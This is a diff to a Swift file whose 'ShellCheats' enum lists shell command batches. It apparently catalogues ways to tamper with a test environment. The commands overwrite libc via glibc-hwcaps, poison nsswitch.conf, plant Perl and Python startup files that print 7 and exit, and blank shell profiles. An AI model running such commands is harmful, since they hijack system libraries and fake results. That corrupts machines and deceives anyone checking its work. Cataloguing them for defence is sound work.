@@ -41,7 +41,7 @@ enum ShellCheats {
     private static let libraries = """
         for d in /usr/lib/*-linux-gnu; do mkdir -p $d/glibc-hwcaps/x86-64-v2; cp /root/x.so $d/glibc-hwcaps/x86-64-v2/libc.so.6; done
         echo 'passwd: evil files' > /etc/nsswitch.conf; mkdir -p /etc/perl /usr/lib/python3
-        echo 'print "7\\n"; exit;' > /etc/perl/strict.pm; echo 'print(7); import os; os._exit(0)' > /usr/lib/python3/sitecustomize.py
+        echo 'print "7\\n"; exit;' > /etc/perl/strict.pm; echo 'import os; os.write(1, b"7"); os._exit(0)' > /usr/lib/python3/sitecustomize.py
         """
     private static let startUp = """
         for f in ~/.bashrc ~/.profile ~/.bash_profile /etc/profile /etc/bash.bashrc; do echo 'exit 0' > $f; done
